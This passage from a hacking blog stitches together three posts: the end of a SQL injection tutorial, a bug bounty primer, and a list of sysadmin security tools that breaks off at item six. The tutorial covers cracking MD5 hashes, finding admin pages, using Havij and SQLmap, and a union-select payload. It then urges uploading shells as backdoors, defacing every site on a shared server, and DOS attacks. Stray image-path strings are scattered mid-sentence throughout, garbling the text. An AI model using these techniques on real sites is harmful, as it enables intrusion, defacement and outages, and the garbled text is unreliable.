Md5 hash looks like this :827ccb0eea8a706c4c34a16891f84e7b = 12345
You can read about all Hashes what exist and their description
Md5 hashes can't be decrypted, only cracked

How to find admin page of site?

Some sites doesn't contain admin control panel and that means you can use any method for finding the admin page, but that doesn't even exist. You might ask "I got the username and password from the database, why isn't there any admin login page then?", but sometimes they are just left in the database after removing the Cpanel.

Mostly people are using tools called "Admin page finders".They have some specific list of pages and will try them.If the page will give HTTP response 200 then it means the page exists, but if the server responds with HTTP response 404 then it means the page doesn'texist in there.If the page exist what is in the list then tool will say "Page found".I don't have any tool to share at the moment, but if you're downloading it yourself then be beware because there are most of those tools infected with virus's.

Mostly the tools I mentioned above, Admin Page Finders doesn't usually find the administrator page if it's costumly made or renamed. That means quite oftenly those tools doesn't help us out andwe have to use an alternative and I think the best one is by using site crawlers. Most of you are probably having Acunetix Web Vulnerability scanner 8 and it has one wonderful feature called site crawler. It'll show you all the pages on the site and will %100 find the login page if there exists one in the page.

Automated SQL injection tools.Automated SQL injection tools are programs what will do the whole work for you, sometimes they will even crack the hashes and will find the Administrator page for you. Most of people are using automated SQL injection tools and most popular of them are Havij and SQLmap. Havij is being used much more than SQLmap nomatter the other tool is much better for that injection. The sad truth why that's so is that many people aren't even able to run SQLmap and those persons are called script-kiddies. Being a script-kiddie is the worstest thingyou can be in the hacking world and if you won't learn how to perform the attack manually and are only using tools then you're one of them. If you're using those tools to perform the attack then most of people will think that you're a script-kiddie because most likely you are. Proffesionals won't take you seriusly if you're injecting with them and you won't become a real hacker neither. My above text might give you an question, "But I've seen that even Proffesional hackers are using SQLmap?" and I'd like to say that everything isn't always black & white. Ifthere are 10 databases, 50 tables in them and 100 columns in the table then it would just take days to proccess all that information.I'm also sometimes using automated tools because it makes my life easier, but to use those tools you first have to learn how to use those tools manually and that's what the tutorial above is teaching you.

Use automated tools only to make your life easier, but don't even look at them if you don't know how to perform the attack manually.

What else can I do with SQL injection besides extracting information?

There are many things besides extracting information from the database and sometimes they are much more powerful. We have talked above that sometimes the database doesn't contain Administrator's credentials or you can't crack the hashes. Then all the injection seems pointless because we can't use the information we have got from the database. Still we can use few another methods. Just like we can conduct CSRF attack with persistent XSS, we can also move to another attacks through SQL injection. One of the solution would be performing DOS attack on the website which is vulnerable to SQL injection. DOS is shortened from Denial of service and it's tottaly different from DDOS what's Distributed Denial of Service. I think that you all probably know what these are, but if I'm taking that attack up with a sentence then DOS will allow us to take down the website temporarely so users wouldn't have access to the site. The other way would be uploading our shell through SQL injection. If you're having a question about what's shell then by saying it shortly, it's a script what we'll upload to the server and it will create an backdoor for us and will give us all the privileges to do what we'd like in the server and sometimes by uploading a shell you're having more rights to modifythings than the real Administrator has. After you have uploaded a shell you can move forward to symlink what means we can deface all the sites what are sharing the same server. Shelling the website is probably most powerful thing you can use on the website. I have not covered how to upload a shell through SQL injection and haven't covered how to cause DOS neither, but probably will do in my next tutorials because uploading a shell through SQL is another kind of science, just like bypassing WAF's. Those are the most common methods what attackers will put in use after they can't get anything useful out of the database. Ofcourse every website doesn't have the same vulnerabilities and they aren't responding always like we want and by that I mean wecan't perform those attacks on all websites.We have all heard that immagination is unlimited and you can do whatever you'd like. That's kinda true and hacking isn't an exception, there are more ways than I can count.

What to do if all the information doesn't display on the page?
I actually have really rarely seen that there are so much information on the webpage that it all just don't fit in there, but one person recently asked that question from me and I decided to add it here. Also if you're having questions then surely ask and I'll update the article. If we're getting back to the question then the answer is simple, if all the information can't fit in thescreen then you have to look at the source code because everything displayed on the webpage will be in there. Also sometimes information will appear in the tab where usually is the site's name. If you can't see the information then sometimes it's hiddened, but with taking a deeper look you might find it from the source. That's why you always have to look all the solutions out before quiting because sometimes you might think "I can't inject into that..", but actually the answer is hiddened in the source.

What is the purpose of '--' in the union+select+1,2,3,4,5-- ?
I suggest to read about null-byte's and here's a good explanation about it : because it might give you some hint why -- is being used . Purpose of adding -- in the end of the URL isn't always neccesary and it depends on the target. It doesn't have any influence to the injection because it doesn't mean anything, but it's still being used because it's used as end of query. It means if I'm injecting as : union select 1,2,3,4,5-- asasdasd then the server will skip everything after -- and asasdasd won't be readed. It's just like adding to masking a shell. Sometimes injection isn't working if -- is missing because -- tells the DB that "I'm the end of query, don't read anything what comes after me and execute everything infront of me". It's just like writing a sentence without a dot, people might think it's not the end ofyour sentence and will wait until you write the other part of the sentence and the end will come if you add the dot to your sentence.

Every sentence of this article is written by staff Rynaldo.
BTS &BTS readers are really thankful to Rynaldo for submitting such a wonderful article to Break The Security.
Continue   Reading>>

Sunday, February 3, 2013

Disclosing Vulnerabilities: The BUG Bounty Way

After presenting this topic at NULL Bangalore Jan Meet, I got loads of appreciation from various people , and one such appreciation I got was from my friend Sabari Selvan. And that’s why I decided to write an article about the presentation I gave.

This article gives you an insight with hunting bugs, and hopefully it becomes a kick-starter guide for the beginners who want to start off with bug bounty.

Well, today hunting bugs in the wild has become a new trend. Coz almost every company has started a responsible disclosure page and hence allows hackers like us to make some name, fame and money…:P I too was fascinated to start off with bug bounty when I saw my friends around me getting those flashy Facebook Bug Bounty Whitehat Card or when they got a new payment for finding a bug or when they got a new T-Shirt from a company.

Before knowing about BUG BOUNTY, let’s see the types in which the Vulnerability Disclosure is done.

We generally have two ways of disclosing vulnerabilities:

  • Full Disclosure
  • Responsible Disclosure
Full Disclosure is when a person goes onto his blog or any other form of public media and writes about the vulnerability that he discovered in the wild most of the times without informing the company where he found the vulnerability. This would allow various other hackers around the world to exploit this vulnerability. This would sometimes lead to problems because the company where you found the bug has got every right to take legal actions against you for letting out theinformation.

Responsible Disclosure
Responsible Disclosure is where the person who finds a vulnerability in a website directly tells it to the authorities of that website, so that they can rectify the issue as early as possible. And most of the companies reward them in return for reporting the vulnerability. And this is what is BUG BOUNTY.

Well, bug bounty is indeed really a nice way to earn money. But more than money when your name comes up in their HALL OF FAME or the company’s RESPONSIBLE DISCLOSURE page, then that’s priceless. Coz that is whatgives your resume some extra weightage and makes you stand out when compared to your peers.

Books to read before Hunting Bugs:
Well, these are the book I generally recommend anyone who wants to start off with web application pen-testing or particularly BUG BOUNTY.

  • Web Application Hackers Handbook , Second Edition(Considered to be the Bible of Web Application Pen-testers)
  • Hacking- The Art Of Exploitation
  • OWASP Testing Guide v3.0

These are the basic tools that most of the bug hunters generally use and suggest.

  • Burp Suite
  • Web Scarab
  • Fiddler
  • Paros Proxy

Mozilla Firefox is the best browser if you want to hunt bugs. And it is the best one coz of its awesome addons that ease our job.

Mozilla Firefox ADDONS:

  • Tamper Data
  • Web Developer Extensions
  • Live HTTP Headers
  • Firebug
  • XSS Me Sidebar
  • Hackbar
  • And many more...

Other Useful Tools:Optional Tools:
Camtasia Sreen Recorder and Snipping Tools (Useful for creating Proof Of Concepts).

List Of BUG BOUNTY Programs:
Well here is the link that provides you a BIG list of Bug Bounty Programs and Responsible Disclosure Pages.

Other ways to earn BOUNTY:
Recently I came across this new startup called BugCrowd that manage organized Bug Bounty for various companies.

Just register yourself to start off with hunting bugs and earn money.

It’s a nice initiative indeed where in it’s a win-win situation for everyone. The company gets its site tested from best of the best hackers across the globe and indeed the hackers get paid for finding bugs and reporting it to them.

Anyways, I hope the above article gives enough info to start off with Bug Hunting. Anyways I wish ALL THE BEST to all the beginners who want to start off with Bug Hunting.
Always Remember:

“If you’re good at Something, then never do it for FREE…!!!”
Happy Hunting…;-D
Continue   Reading>>

Wednesday, January 23, 2013

10 System Admin Tools to Help You Secure Your Network

System admins are frequently bombarded with security concerns, requests, alerts, news items, “did you see this?!” emails, and more. Keeping up with all the aspects of network security can seem like an overwhelming task, but in this post we’re going to look at ten tools a system admin can use to help secure their network. Some you may be familiar with, like network security software, while others may come as a surprise, like your email client; but all will help you to stay ahead of the bad guys, keep yourself informed of thelatest threats, and maintain the security of your network.

1. Network security software
When we talk about network security software, we’re talking about a class of product more than any specific tool, and how important it is for you to have an application or small group of applications that can help you to accomplish most of your tasks. There are simply too many things for any one admin to do by hand, and network security software applications help to automate the heavy lifting and ensure that you can keep up with the workload. Look for network security software that multitasks. Think about it as a Swiss Army knife of software packages that includes many of the other items on this list.

2. Vulnerability scanner
A good vulnerability scanner is a key part of any toolkit, and should be used by server admins and security engineers alike. The top network security software apps will include a scanner that has a database of the thousands of vulnerabilities that could exist on your network, so that you can quickly, easily and regularly scan your network to ensure you systems are up-to-date, configured properly and secured.

3. Port scanner
A port scanner is another regular tool that should be in your network security software application. Attackers regularly scan your Internet connection looking for ways in and so should you. But you should also scan internally so you can find unauthorized services or misconfigured systems, and to validate your internal firewalls are set up correctly.

4. Patching software
Patching operating systems and third party applications is one of the most important, regularly recurring tasks a sys admin has. Network security software that can automate this, and handle the hundreds of other applications on your network,is the only realistic way you can keep up with this.

5. Auditing software
Auditing software may strike you as a strange recommendation at first, but consider all those apps you are trying to patch. How can you be sure you have no vulnerabilities on your systems if your users can install anything on your systems? How are you going to maintain licensing compliance if you don’t know who has installed what from \software? Network security software may also include software and hardware inventory components to help you stay informed and secure.

6. Secure remote clients
